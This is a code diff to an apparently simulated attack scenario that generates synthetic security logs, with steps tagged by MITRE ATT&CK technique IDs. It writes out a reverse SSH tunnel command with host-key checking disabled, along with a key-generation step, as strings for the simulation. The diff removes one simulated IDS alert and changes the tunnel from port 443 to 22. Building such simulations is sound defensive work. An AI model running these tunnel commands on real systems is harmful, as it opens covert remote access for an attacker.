@@ -149,15 +149,10 @@ def _placed(attack: Attack, scene: _Scene, at: int) -> None:
 
 
 def _commanded(attack: Attack, scene: _Scene, at: int) -> None:
-    balancer = scene.world.server("balancer").address
     what = "Commands are run by the page as the portal's account"
     with attack.step(at, what, "T1059.004", scene.attacker, scene.machine.name, _USER):
         for number, command in enumerate(_COMMANDS):
             scene.ordered(at + number * 47 * SECOND, command)
-        scene.world.products.ids.alert(
-            at + 50_000, scene.machine.address, balancer, 51_224, sport=8080, number=1000412,
-            signature="LOCAL web server answers with the output of id", category="Potentially Bad Traffic", severity=2,
-        )  # fmt: skip
         scene.connected(at + 9 * MINUTE, scene.attacker, sent=31_000, received=96_000, seconds=530)
 
 
@@ -212,10 +207,10 @@ def _tunnelled(attack: Attack, scene: _Scene, at: int, tunnel: str) -> None:
     with attack.step(at, what, "T1572", scene.machine.name, scene.store, tunnel, _USER):
         scene.ordered(at, f"mkdir -p {home} && ssh-keygen -q -t ed25519 -N '' -f {home}/id_ed25519")
         options = "-o StrictHostKeyChecking=no -o ServerAliveInterval=60"
-        scene.ordered(at + 2 * MINUTE, f"ssh -f -N {options} -R 8022:127.0.0.1:22 -p 443 relay@{tunnel}")
+        scene.ordered(at + 2 * MINUTE, f"ssh -f -N {options} -R 8022:127.0.0.1:22 relay@{tunnel}")
         products.resolver.query(at + 2 * MINUTE + 40_000, address, tunnel, millis=57)
         products.firewall.session(
-            at + 305 * MINUTE, address, scene.store, 443, sent=4_830_000, received=1_960_000, seconds=18_180
+            at + 305 * MINUTE, address, scene.store, 22, sent=4_830_000, received=1_960_000, seconds=18_180
         )
         scene.connected(at + 4 * MINUTE, scene.attacker, sent=3_300, received=5_200, seconds=130)
 
